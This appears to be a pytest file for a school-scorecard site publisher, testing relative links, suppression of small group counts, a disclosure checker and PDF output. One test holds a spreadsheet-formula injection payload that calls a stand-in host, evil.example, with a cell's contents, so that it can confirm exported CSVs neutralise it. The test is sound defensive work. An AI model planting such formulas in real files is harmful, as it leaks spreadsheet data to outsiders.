"""``backbone publish OUT/``: a static site with relative links only, the export format the
disclosure checkers read, no withheld count anywhere, and an annual report that renders."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from typer.testing import CliRunner

from backbone.cli import app
from backbone.scorecard.models import Release
from tests.scorecard.pages import accessibility_problems, leaked, structure, visible_text
from tests.scorecard.planted import plant, true_withheld
from tests.scorecard.recoverable import disclosures

pytestmark = pytest.mark.django_db

HEADER = (
    "indicator,period,dimension,group,unit,numerator,denominator,value,display,marker,rule,"
    "threshold,policy_version"
)


def publish(out: Path, *extra: str):
    return CliRunner().invoke(app, ["publish", str(out), *extra])


@pytest.fixture
def site(tmp_path) -> Path:
    plant()
    out = tmp_path / "site"
    result = publish(out)
    assert result.exit_code == 0, result.output
    # Release ids come from the database's sequence: 1 on a fresh SQLite, later on PostgreSQL.
    release = Release.objects.order_by("-pk").first()
    assert release is not None and "23 cells" in result.output
    assert f"Published release {release.pk} " in result.output
    return out


def pages_of(out: Path) -> list[Path]:
    return sorted(out.rglob("*.html"))


def test_the_site_has_every_page_and_download(site):
    expected = [
        "index.html", "outcomes/reading-for-all/index.html", "annual-report.pdf",
        "data/results.csv", "data/partitions.json", "data/dimensions.json",
        "static/backbone/backbone.css", "static/scorecard/scorecard.css",
        "static/backbone/favicon.svg",
    ] + [
        f"{folder}/{slug}/{name}"
        for slug in ("planted_reading", "planted_earnings")
        for folder, name in (("indicators", "index.html"), ("indicators", "data.csv"),
                             ("indicators", "data.json"), ("embed", "index.html"))
    ]  # fmt: skip
    assert [name for name in expected if not (site / name).is_file()] == []
    assert (site / "data" / "results.csv").read_text().splitlines()[0] == HEADER
    assert len((site / "data" / "results.csv").read_text().splitlines()) == 24  # 23 cells


def test_every_link_is_relative_and_leads_to_a_file(site):
    broken = []
    for page in pages_of(site):
        for link in structure(page.read_text()).links:
            if link.startswith("#"):
                continue
            if re.match(r"^(/|[a-z]+:)", link):
                broken.append(f"{page.relative_to(site)}: {link} is not relative")
            elif not (page.parent / link.split("#")[0]).resolve().is_file():
                broken.append(f"{page.relative_to(site)}: {link} leads nowhere")
    assert broken == []


def test_no_file_of_the_site_shows_a_withheld_count(site):
    with (site / "data" / "results.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    shown = {int(r[c]) for r in rows for c in ("numerator", "denominator") if r[c]}
    secret = {value for _, _, value in true_withheld(rows) if value >= 10} - shown
    assert {589, 347, 242, 601, 687, 405} <= secret
    for path in sorted(site.rglob("*")):
        if path.suffix in {".csv", ".json"}:
            assert leaked(path.read_text(), secret) == [], path
        elif path.suffix == ".html":
            assert leaked(visible_text(path.read_text()), secret) == [], path
            assert accessibility_problems(path.read_text()) == [], path


def test_no_small_count_can_be_worked_out_and_the_checker_would_notice(site, tmp_path):
    assert disclosures(site) == []
    # Control: put back the Asian 2024 counts hidden to protect the group of four.
    tampered = tmp_path / "tampered"
    shutil.copytree(site, tampered)
    results = tampered / "data" / "results.csv"
    text = results.read_text()
    asian = "planted_reading,2024,race_ethnicity,Asian,"
    row = next(line for line in text.splitlines() if line.startswith(asian))
    fields = row.split(",")
    fields[5:8] = ["347", "589", "59"]
    results.write_text(text.replace(row, ",".join(fields)))
    found = disclosures(tampered)
    assert any("Native Hawaiian or Pacific Islander: denominator 4" in f for f in found), found


def test_check_disclosure_passes_on_the_published_site(site):
    result = CliRunner().invoke(app, ["check-disclosure", str(site)])
    assert result.exit_code == 0, result.output


def test_the_annual_report_renders(site, tmp_path):
    report = (site / "annual-report.pdf").read_bytes()
    assert report.startswith(b"%PDF") and len(report) > 20_000
    subprocess.run(
        ["pdftoppm", "-png", "-r", "40", "-f", "1", "-l", "1", "-singlefile",
         str(site / "annual-report.pdf"), str(tmp_path / "page1")], check=True,
    )  # fmt: skip
    assert (tmp_path / "page1.png").stat().st_size > 5_000


def test_publish_refuses_a_folder_it_did_not_make_unless_forced(site, tmp_path):
    foreign = tmp_path / "mine"
    foreign.mkdir()
    (foreign / "notes.txt").write_text("keep me")
    refused = publish(foreign)
    assert refused.exit_code == 1 and "not empty" in refused.output
    assert sorted(p.name for p in foreign.iterdir()) == ["notes.txt"]
    assert publish(foreign, "--force").exit_code == 0
    assert (foreign / "notes.txt").read_text() == "keep me" and (foreign / "index.html").exists()
    (site / "stale.html").write_text("old")
    latest = Release.objects.order_by("-pk").values_list("pk", flat=True).first()
    again = publish(site, "--release", str(latest))  # its own earlier output: replaced whole
    assert again.exit_code == 0 and not (site / "stale.html").exists()
    assert publish(site, "--release", str(latest + 100)).exit_code == 1


def test_a_base_url_gives_the_widgets_a_full_address(tmp_path):
    plant()
    out = tmp_path / "site"
    result = publish(out, "--base-url", "https://scorecard.planted.example/")
    assert result.exit_code == 0, result.output
    page = (out / "indicators" / "planted_reading" / "index.html").read_text()
    assert 'src="https://scorecard.planted.example/embed/planted_reading/index.html"' in (
        page.replace("&quot;", '"')
    )


def test_publish_refuses_a_release_the_audit_rejects_and_writes_nothing(site, tmp_path):
    # A release stored by an older version showed the group of 4 people's size (planted.py:
    # 2024, 4 students in the small race group). The audit reads the release's files as a
    # reader would; publish names the cell and writes no file.
    release = Release.objects.order_by("-pk").first()
    small = release.cells.get(
        indicator__slug="planted_reading", period="2024", dimension="race_ethnicity",
        marker="*", rule__startswith="primary",
    )  # fmt: skip
    small.denominator = 4
    small.save()
    out = tmp_path / "refused"
    refused = publish(out, "--release", str(release.pk))
    assert refused.exit_code == 1
    assert "Not published" in refused.output and "1 small count(s)" in refused.output
    first = next(line for line in refused.output.splitlines() if "planted_r" in line)
    assert "2024" in first and "Native" in first and "denominato" in first and " 4 " in first
    assert not out.exists()


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_formula_group_is_quoted_in_every_public_csv_and_the_checker_reads_it(tmp_path, client):
    """A program named like a formula (programs overlap, so adding one breaks no partition)."""
    from backbone.indicators.models import Result

    indicators = plant()
    first = Result.objects.filter(indicator=indicators["reading"]).first()
    Result.objects.create(
        run=first.run, indicator=indicators["reading"], definition_version=1, period="2024",
        dimension="program", group_value=FORMULA, numerator=300, denominator=600, value=50.0,
    )  # fmt: skip
    out = tmp_path / "site"
    assert publish(out).exit_code == 0
    served = client.get("/scorecard/data/results.csv").content.decode()
    for text in (
        (out / "data" / "results.csv").read_text(),
        (out / "indicators" / "planted_reading" / "data.csv").read_text(),
        served,
    ):
        rows = list(csv.DictReader(text.splitlines()))
        assert [r["group"] for r in rows if "HYPERLINK" in r["group"]] == ["'" + FORMULA]
        assert not any(v.startswith(("=", "@")) for r in rows for v in r.values())
    result = CliRunner().invoke(app, ["check-disclosure", str(out)])
    assert result.exit_code == 0, result.output
    from backbone.disclosure.export import read_results

    groups = {row.key for row in read_results(out)}  # as written, the quote taken off
    assert ("2024", "program", FORMULA) in groups


def test_publishing_stores_the_annual_report_and_the_page_serves_that_file(site, client):
    # Before: the PDF was rendered on the first request (11.5 s at 20,000 students).
    from backbone.warehouse.services import workspace

    made = Release.objects.order_by("-pk").first()
    stored = workspace().scorecard / f"annual-report-release-{made.pk}.pdf"
    assert stored.read_bytes() == (site / "annual-report.pdf").read_bytes()
    served = b"".join(client.get("/scorecard/annual-report.pdf").streaming_content)
    assert served == stored.read_bytes()
